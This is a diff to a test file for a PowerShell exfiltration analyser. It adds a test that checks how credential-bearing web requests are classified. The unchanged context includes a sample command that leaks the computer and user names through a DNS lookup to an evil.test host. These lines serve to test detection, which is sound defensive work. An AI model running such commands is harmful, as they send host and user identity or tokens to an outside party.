@@ -92,6 +92,17 @@ describe('PowerShell: exfiltration', () => {
     expect(sends[0]!.endpoint.host).toMatch(/evil\.test$/);
   });
 
+  it('credentials are kept apart from data', async () => {
+    const r =
+      await ps(`Invoke-RestMethod https://api.github.com/user -Headers @{ Authorization = "Bearer $env:GITHUB_TOKEN" }
+irm "https://api.weather.example.net/v1?key=$env:WEATHER_API_KEY"
+Invoke-WebRequest -Uri https://api.example.net/p -Method Post`);
+    expect(ofKind(r, 'fetch').map((b) => b.credentials?.secret)).toEqual(['env-secret', 'env-secret']);
+    const send = ofKind(r, 'send')[0]!;
+    expect(send.endpoint.host).toBe('api.example.net');
+    expect(send.data.text).toBe('');
+  });
+
   it('host facts in a DNS name', async () => {
     const r = await ps(`Resolve-DnsName "$env:COMPUTERNAME.$env:USERNAME.x.evil.test"`);
     const s = ofKind(r, 'send')[0]!;
